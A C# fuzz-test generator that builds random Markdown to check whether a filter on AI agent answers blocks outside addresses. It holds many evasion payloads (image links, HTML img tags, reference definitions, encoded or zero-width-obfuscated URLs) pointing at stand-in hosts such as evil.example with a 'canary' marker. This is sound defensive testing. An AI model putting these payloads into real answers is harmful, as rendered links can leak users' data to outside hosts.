using System.Text;

namespace Lectern.Tests.Agent.Answers;

/// <summary>
/// Random Markdown that tries to bring an address through: quotations, lists, fences of both kinds at every indentation, three
/// kinds of line ends, definitions, references, addresses in plain text, HTML, formulas, tables, and what stands in code to some
/// programs and not to others. The same seed makes the same texts.
/// </summary>
/// <param name="seed">Of the texts.</param>
/// <param name="severed">One text in so many is said in two.</param>
internal sealed class HostileMarkdown(int seed, int severed = 4)
{
    /// <summary>In every address that must not come through.</summary>
    public const string Canary = "canary";

    public const string Known = "https://known.example/page";

    private static readonly string[] Addresses =
    [
        "//evil.example/?q=canary", "https://evil.example/canary", "http://evil.example/p.png?q=canary",
        "HTTPS://evil.example/canary",
        "ftp://evil.example/canary", "www.evil.example/canary", "canary@evil.example", "mailto:canary@evil.example",
        "javascript:canary",
        "/canary", "canary.png", "&#104;ttps://evil.example/canary", "https&colon;//evil.example/canary",
        "https:\\/\\/evil.example/canary",
        "http&#58;&#47;&#47;evil.example/canary", "data:text/html,canary", "//evil.example/p?q=canary<b>",
        "https://evil.example/canary?a=1&amp;b=2",
        "https\\://evil.example/canary", "www\\.evil.example/canary", "canary\\@evil.example", "xhttp://evil.example/canary",
        "//evil.example/(canary)",
        Known + "?canary", Known + "\\?canary", Known + "|canary", Known + "`canary`",
        Known + "]canary", Known + "[canary", Known + "\"canary",
        Known + "。canary", "https://evil.example:8080/canary_*~$", "http://[::1]/canary",
        "http://127.0.0.1/canary", "https://user@evil.example/canary",
        "https:evil.com/canary", "/\\evil.com/canary", "//evil.com/canary", "canary@evil.com", "canary@e\u00ADvil.com",
        "canary@evil\u200B.com", "canary@ev\0il.com", "{canary}@evil.com", "known@known.example.canary.com",
    ];

    private static readonly string[] Payloads =
    [
        "![x](A)", "![x](A)", "![x](A)", "[x](A)", "![x](<A>)", "![x](A \"t\")", "![x]( A )", "![x](\nA)", "![x][y]", "![y]",
        "[y]", "[y][]", "<A>",
        "<img src=A>", "<img src=\"A\">", "<a href='A'>x</a>", "<img\nsrc=A>", "<!-- A -->", "<?A?>",
        "<b style=\"background:url(A)\">", "A", " A ", "A",
        "[![x](A)](A)", "[x](A", "![x](A\n\"t\")", "![x`](A)", "[x](" + Known + " \"](A)\")", "![" + Known + "](A)",
        "[" + Known + "](A)", "![](A)", "[x][1](A)",
        "![x][9](A)", "[x [y](A) z](A)", "![x](A)<b>", "<A", "A>", "[x]:A", "](A)", "](<A>)", "![x", "<a", "<img src=",
        "【2†A】y", "Step 【2†<img src=A>】", "【4†![x](A)】 = 2", "<!X", "[a\\](A)", "![*x*](A)", "![$x$](A)", "![x~](A)",
        "[see 【3](A) y】", "[see 【1](A \"t\") y】", "![a 【2](A) y】", "[a 【2†b [c](A) d】](A)",
        "word\n\n[    x](A \"t\") y", "word\n\n![    x](A) y",
    ];

    private static readonly string[] Omitted =
    [
        "[]()", "[]()", "[2]", "[2]", "【2†s】", "\\[2\\]", "[2, 4]", " [2]", "![](z)", "![q](z)", "[](z)", "[ ]( )",
        "[q]()", "[2][4]", "[z](z)", "[1]",
    ];

    private static readonly string[] Definitions =
    [
        "[y]: A", "[y]:A", "[y]:\nA", "[y]: <A>", "[y\nz]: A", "[y]: A \"t\"", "[y]: A\n'title", "[^y]: A", "[1]: A",
        "[y]:\n  A\n  \"t\"", "[^1]: [y]: A", "[x]: b c\n[y]: A",
    ];

    private static readonly string[] Noise =
    [
        "word", "two words", "`", "``", "```", "````", "`code`", "``co`de``", "`a|b`", "`a\\`", "\\`", "\\\\`", "$", "$$", "\\(",
        "\\)", "\\[", "\\]", "*", "**", "_", "~", "~~", "~~~",
        "|", "<", ">", "<b>", "</b>", "<br>", "<hr>", "<i", "< 3", "<3", "&lt;", "&amp;", "\\", "\\\\", "[1]", " [2]", "[9]",
        " [1, 2]", "[^1]", "[x]", "[", "]", "(", ")", "!", ":", ".",
        "\\[1\\]", "【1†source】", "é", "日本語", "עברית", "😀", "\u00A0", "\u2028", "\f", "\0", "\uFEFF",
        "http://", "www", "@", "//",
        "&", "#", "=", "+", "{", "}", "\"", "'", "1.", "-",
        Known, "[k](" + Known + ")", "<" + Known + ">", "*b*", "**b**", "~~d~~", "$x$", "$`$", "\\(`\\)", "`$", "$`",
    ];

    private static readonly string[] Prefixes =
    [
        "", "", "", "", "", " ", "  ", "   ", "    ", "     ", "\t", " \t", "> ", ">", "> > ", ">>", "- ", "* ", "+ ", "1. ",
        "10) ", "-\t", "- - ", "> - ", "- > ", "  > ", "   - ", "# ", "### ",
        "| ", ": ", "[^1]: ", "[^1]:\n    ", "\uFEFF", "\u00A0", "<b>", "<hr>\n", "!!! note\n    ", "- [ ] ", "      ",
        "        ",
    ];

    private static readonly string[] Lines =
    [
        "```", "```", "```", "~~~", "~~~", "````", "```js", "~~~ js", "``` a`b", "```` ", "```\t", "```~~", "~~~`", "``` ```",
        "---", "===", "***", "|a|b|\n|-|-|", "$$", "\\[", "\\]", "<div>", "</div>",
        "<b>", "<hr>", "<!--", "-->", "<pre>", "</pre>", "<![CDATA[", "]]>", "<script>", ":::", "+++", "term\n: ", "", "", "",
    ];

    private readonly Random random = new(seed);

    public string Next()
    {
        var text = new StringBuilder();
        var newline = Pick(["\n", "\n", "\n", "\n", "\r\n", "\r"]);
        switch (random.Next(5))
        {
            case 0:
                Structured(text);
                break;
            case 1:
                Tidy(text, "", 3);
                break;
            case 2:
                Tidy(text, "", 3);
                Damage(text);
                break;
            default:
                Soup(text);
                break;
        }

        var made = text.ToString();
        if (random.Next(25) == 0)
            made = Mixed(made);
        return newline == "\n" ? made : made.Replace("\n", newline, StringComparison.Ordinal);
    }

    /// <summary>The same text in pieces of any size.</summary>
    public IEnumerable<string> Split(string text)
    {
        var most = Pick([1, 2, 5, 20, 100, 100_000]);
        for (var at = 0; at < text.Length;)
        {
            var length = Math.Min(random.Next(1, most + 1), text.Length - at);
            yield return text.Substring(at, length);
            at += length;
        }
    }

    /// <summary>Whether a text is said in two as well.</summary>
    public bool IsToSever() => random.Next(severed) == 0;

    /// <summary>Where it ends then.</summary>
    public int Cut(string text) => random.Next(text.Length + 1);

    private T Pick<T>(IReadOnlyList<T> from) => from[random.Next(from.Count)];

    private string Payload() => WithOmissions(Pick(Payloads).Replace("A", Pick(Addresses), StringComparison.Ordinal));

    private string Definition() => WithOmissions(Pick(Definitions).Replace("A", Pick(Addresses), StringComparison.Ordinal));

    /// <summary>What the filter may leave out, within what would be an element or an address without it.</summary>
    private string WithOmissions(string text)
    {
        for (var i = random.Next(4) == 0 ? random.Next(1, 4) : 0; i > 0; i--)
            text = text.Insert(random.Next(3) == 0 ? Math.Min(1, text.Length) : random.Next(text.Length + 1), Pick(Omitted));
        return text;
    }

    private string Inline()
    {
        var text = new StringBuilder();
        for (var i = random.Next(1, 7); i > 0; i--)
        {
            text.Append(random.Next(5) switch { 0 => Payload(), 1 => "word ", _ => Pick(Noise) });
            if (random.Next(3) == 0)
                text.Append(' ');
        }

        return text.ToString();
    }

    /// <summary>The later lines of something as they would go on in the block that its first one begins.</summary>
    private string Within(string text, string prefix)
    {
        var next = string.Concat(prefix.Select(c => c is '>' or ' ' or '\t' ? c : ' '));
        return random.Next(3) == 0 ? text : text.Replace("\n", "\n" + next, StringComparison.Ordinal);
    }

    /// <summary>Lines of anything.</summary>
    private void Soup(StringBuilder text)
    {
        for (var i = random.Next(1, 9); i > 0; i--)
        {
            var prefix = Pick(Prefixes);
            text.Append(prefix);
            text.Append(random.Next(6) switch
            {
                0 => Pick(Lines),
                1 => Within(Definition(), prefix),
                2 => "",
                _ => Within(Inline(), prefix),
            });
            text.Append(Pick(["\n", "\n", "\n", "\n\n", "  \n", "\\\n"]));
        }
    }

    /// <summary>Blocks in blocks, nearly as a model would write them, with one thing out of place.</summary>
    private void Structured(StringBuilder text)
    {
        var indent = "";
        for (var i = random.Next(2, 7); i > 0; i--)
        {
            switch (random.Next(7))
            {
                case 0:
                    text.Append(indent).Append(Inline()).Append("\n\n");
                    break;
                case 1:
                    text.Append(indent).Append(Pick(["- ", "* ", "1. ", "10. ", "> ", "-   "])).Append(Inline()).Append('\n');
                    indent = Pick(["", "  ", "   ", "    ", "> ", indent + "  ", indent + "> ", "\t"]);
                    break;
                case 2:
                    text.Append(indent).Append("[y]: ").Append(Pick(Addresses)).Append("\n\n").Append(indent).Append("![y]\n");
                    break;
                case 3:
                    text.Append(indent).Append("| a | b |\n").Append(indent).Append("|---|---|\n")
                        .Append(indent).Append("| ").Append(Inline()).Append(" | ").Append(Inline()).Append(" |\n");
                    break;
                case 4:
                    indent = Pick(["", indent, "  "]);
                    text.Append('\n');
                    break;
                default:
                    var fence = Pick(["```", "~~~", "````"]);
                    var inner = random.Next(4) == 0 ? Pick(["", " ", "  ", "    ", "> ", "\t"]) : indent;
                    text.Append(indent).Append(fence).Append(Pick(["", "js", " py"])).Append('\n');
                    for (var line = random.Next(1, 4); line > 0; line--)
                    {
                        text.Append(inner).Append(random.Next(3) == 0 ? Payload() : Inline())
                            .Append(random.Next(6) == 0 ? "\n\n" : "\n");
                    }

                    text.Append(Pick([indent, indent, inner, "", "    "]))
                        .Append(Pick([fence, fence, fence + "`", "```", "~~~", fence + " "])).Append('\n');
                    text.Append(Pick(["", "\n"])).Append(inner).Append(Payload()).Append('\n');
                    break;
            }
        }
    }

    /// <summary>As a model writes it: code in fences, in lists and in quotations, and spans of code in the text.</summary>
    private void Tidy(StringBuilder text, string indent, int depth)
    {
        for (var i = random.Next(1, 4); i > 0; i--)
        {
            switch (random.Next(depth == 0 ? 4 : 7))
            {
                case 0 or 1:
                    var (fence, right) = (Pick(["```", "```", "~~~", "````"]), Pick(["", "", "", " "]));
                    text.Append(indent).Append(right).Append(fence).Append(Pick(["", "js", "python"])).Append('\n');
                    for (var line = random.Next(1, 4); line > 0; line--)
                    {
                        var code = random.Next(2) == 0 ? Payload() : Inline();
                        text.Append(random.Next(8) == 0 ? "" : indent + right + Pick(["", "", "  ", "    "]) + code).Append('\n');
                    }

                    text.Append(indent).Append(right).Append(fence).Append('\n');
                    break;
                case 2:
                    text.Append(indent).Append("Word `").Append(Payload()).Append("` and ").Append(Pick(Noise))
                        .Append(" `").Append(Payload()).Append('`').Append(Pick(["", ".", " " + Pick(Noise)])).Append('\n');
                    break;
                case 3:
                    text.Append(indent).Append(Pick(["# ", "", "", "| "])).Append(Pick(Noise)).Append(' ').Append(Pick(Noise))
                        .Append(" `x` ").Append(random.Next(3) == 0 ? Payload() : "").Append('\n');
                    break;
                default:
                    var sign = Pick(["- ", "* ", "1. ", "2. ", "10. ", "> ", "-   ", "- [ ] "]);
                    text.Append(indent).Append(sign).Append("Item:").Append(Pick(["\n", "\n\n"]));
                    Tidy(text, indent + (sign[0] == '>' ? "> " : new string(' ', sign == "- [ ] " ? 2 : sign.Length)), depth - 1);
                    break;
            }

            text.Append(Pick(["\n", "\n", "", indent.TrimEnd() + "\n"]));
        }
    }

    /// <summary>One thing in a text out of place.</summary>
    private void Damage(StringBuilder text)
    {
        for (var i = random.Next(1, 4); i > 0; i--)
        {
            var at = random.Next(text.Length + 1);
            if (random.Next(2) == 0)
                text.Insert(
                    at, Pick([Pick(Noise), Pick(Prefixes), Pick(Lines), "\n", "\n\n", " ", "    ", "\t", "`", "> ", "- "]));
            else if (at < text.Length)
                text.Remove(at, Math.Min(random.Next(1, 4), text.Length - at));
        }
    }

    /// <summary>Line ends of several kinds in one text.</summary>
    private string Mixed(string text) => string.Concat(text.Select(c => c == '\n' ? Pick(["\n", "\r", "\r\n"]) : c.ToString()));
}
